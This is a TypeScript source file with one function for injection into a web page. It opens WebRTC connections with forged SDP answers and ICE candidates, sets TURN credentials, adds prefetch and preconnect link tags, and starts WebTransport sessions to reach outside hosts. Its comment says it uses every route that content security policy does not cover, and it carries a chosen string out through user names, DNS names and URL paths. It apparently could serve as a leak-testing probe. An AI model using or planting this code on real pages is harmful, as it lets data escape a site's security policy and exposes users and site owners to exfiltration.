/** The peer that a page is to reach, and the words to send. */
export type Peer = {
  readonly hosts: readonly string[]
  readonly udp: number
  readonly tcp: number
  readonly words: string
}

/**
 * Runs in a page: tries every way to a peer that no content security policy covers. A forged answer
 * names the listener and carries the words as a user name, which is sent in clear. The function is
 * injected as text, so it uses nothing from outside.
 *
 * @returns how many connections were started; none where the page cannot start one.
 */
export const tryPeers = async ({ hosts, udp, tcp, words }: Peer): Promise<number> => {
  const servers = hosts.flatMap((host) => [
    { urls: `stun:${host}:${String(udp)}` },
    ...['udp', 'tcp'].flatMap((transport) =>
      ['turn', 'turns'].map((kind) => ({
        urls: `${kind}:${host}:${String(transport === 'udp' ? udp : tcp)}?transport=${transport}`,
        username: words,
        credential: words,
      })),
    ),
  ])
  const candidates = [...hosts, `${words}.local`, `${words}.example.org`].flatMap((host) => [
    `candidate:1 1 udp 2122260223 ${host} ${String(udp)} typ host`,
    `candidate:2 1 tcp 1518280447 ${host} ${String(tcp)} typ host tcptype passive`,
    `candidate:3 1 ssltcp 1518280446 ${host} ${String(tcp)} typ host tcptype passive`,
  ])
  const answer = [
    ...['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0'],
    ...['m=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0'],
    ...[`a=ice-ufrag:${words}`, `a=ice-pwd:${words}${words}${words}`],
    `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => 'AA').join(':')}`,
    ...['a=setup:active', 'a=mid:0', 'a=sctp-port:5000', ''],
  ].join('\r\n')

  let begun = 0
  const open: RTCPeerConnection[] = []
  for (const iceServers of [[], servers]) {
    try {
      const peer = new RTCPeerConnection({ iceServers })
      open.push(peer)
      peer.createDataChannel('any')
      await peer.setLocalDescription(await peer.createOffer())
      await peer.setRemoteDescription({ type: 'answer', sdp: answer })
      for (const candidate of candidates) {
        // A refused candidate does not rule out the next one.
        await peer.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => undefined)
      }
      begun += 1
    } catch {
      // Refused at once.
    }
  }
  for (const host of hosts) {
    const address = `https://${host}:${String(tcp)}/`
    for (const rel of ['preconnect', 'dns-prefetch', 'prerender', 'prefetch', 'modulepreload']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href: address }))
    }
    try {
      const { WebTransport: Transport } = globalThis as unknown as {
        WebTransport?: new (to: string) => { ready: Promise<unknown>; closed: Promise<unknown> }
      }
      const way = Transport && new Transport(`https://${host}:${String(udp)}/${words}`)
      for (const end of [way?.ready, way?.closed]) end?.catch(() => undefined)
    } catch {
      // Refused at once.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 2_500))
  for (const peer of open) peer.close()
  return begun
}
